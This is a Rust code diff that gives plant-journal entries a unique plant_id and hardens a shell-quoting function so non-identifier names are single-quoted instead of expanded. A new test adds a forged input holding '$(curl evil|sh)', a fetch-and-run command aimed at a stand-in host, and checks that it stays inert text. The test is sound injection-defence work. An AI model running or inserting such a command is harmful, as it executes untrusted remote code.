@@ -72,19 +72,38 @@ impl RunFiles {
     }
 
     pub fn journal_begin(&self, scope: &AttemptScope) -> Result<()> {
-        self.line(json!({"event": "planting", "attempt_id": scope.key, "case_id": scope.case_id}))
+        static N: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
+        let id = format!(
+            "{}#{}-{}",
+            scope.key,
+            std::process::id(),
+            N.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
+        );
+        scope.state().plant_id = Some(id.clone());
+        self.line(json!({"event": "planting", "plant_id": id, "attempt_id": scope.key, "case_id": scope.case_id}))
             .map_err(|e| Error::io(&self.journal_path, "cannot write the plant journal", e))
     }
 
+    fn plant_id(scope: &AttemptScope) -> String {
+        scope
+            .state()
+            .plant_id
+            .clone()
+            .unwrap_or_else(|| scope.key.clone())
+    }
+
     pub fn journal_planted(&self, scope: &AttemptScope, vars: &BTreeMap<String, String>) {
-        let _ = self.line(json!({"event": "planted", "attempt_id": scope.key, "case_id": scope.case_id, "vars": vars}));
+        let _ = self.line(json!({"event": "planted", "plant_id": Self::plant_id(scope), "attempt_id": scope.key, "case_id": scope.case_id, "vars": vars}));
     }
 
     pub fn journal_end(&self, scope: &AttemptScope, error: Option<&str>) {
+        let id = Self::plant_id(scope);
         let v = match error {
-            None => json!({"event": "removed", "attempt_id": scope.key, "case_id": scope.case_id}),
+            None => {
+                json!({"event": "removed", "plant_id": id, "attempt_id": scope.key, "case_id": scope.case_id})
+            }
             Some(e) => {
-                json!({"event": "remove_failed", "attempt_id": scope.key, "case_id": scope.case_id, "error": e})
+                json!({"event": "remove_failed", "plant_id": id, "attempt_id": scope.key, "case_id": scope.case_id, "error": e})
             }
         };
         let _ = self.line(v);
@@ -154,15 +173,23 @@ pub fn open_plants(journal: &Path) -> Result<Vec<AttemptScope>> {
         let (Some(event), Some(key)) = (v["event"].as_str(), v["attempt_id"].as_str()) else {
             continue;
         };
+        let id = v["plant_id"].as_str().unwrap_or(key).to_owned();
         let case_id = v["case_id"].as_str().unwrap_or(key);
+        let fresh = || {
+            let s = AttemptScope::bare_attempt(key, case_id);
+            {
+                let mut st = s.state();
+                st.plant_id = Some(id.clone());
+                st.journaled = true;
+            }
+            s
+        };
         match event {
             "planting" => {
-                open.insert(key.to_owned(), AttemptScope::bare_attempt(key, case_id));
+                open.insert(id.clone(), fresh());
             }
             "planted" => {
-                let scope = open
-                    .entry(key.to_owned())
-                    .or_insert_with(|| AttemptScope::bare_attempt(key, case_id));
+                let scope = open.entry(id.clone()).or_insert_with(fresh);
                 if let Some(vars) = v["vars"].as_object() {
                     scope.set_vars(
                         vars.iter()
@@ -172,7 +199,7 @@ pub fn open_plants(journal: &Path) -> Result<Vec<AttemptScope>> {
                 }
             }
             "removed" => {
-                open.remove(key);
+                open.remove(&id);
             }
             _ => {}
         }
@@ -210,7 +237,17 @@ pub fn shell_word(s: &str) -> String {
             Some(j) => (&after[..j], &after[j + CLOSE.len_utf8()..]),
             None => (after, ""),
         };
-        out.push_str(&format!("\"${{{name}}}\""));
+        let is_name = !name.is_empty()
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+            && !name.as_bytes()[0].is_ascii_digit();
+        if is_name {
+            out.push_str(&format!("\"${{{name}}}\""));
+        } else {
+            // never a shell expansion: whatever it is stays quoted text
+            out.push('\'');
+            out.push_str(&name.replace('\'', "'\\''"));
+            out.push('\'');
+        }
         rest = next;
         if rest.is_empty() {
             break;
@@ -250,5 +287,8 @@ mod tests {
         assert_eq!(shell_word(&with), "'Bearer '\"${BOT_TOKEN}\"");
         assert_eq!(shown(&with), "Bearer ${BOT_TOKEN}");
         assert_eq!(shell_word(""), "''");
+        // a forged mark holding an expansion stays text
+        let forged = format!("{OPEN}X:-$(curl evil|sh){CLOSE}");
+        assert_eq!(shell_word(&forged), "'X:-$(curl evil|sh)'");
     }
 }
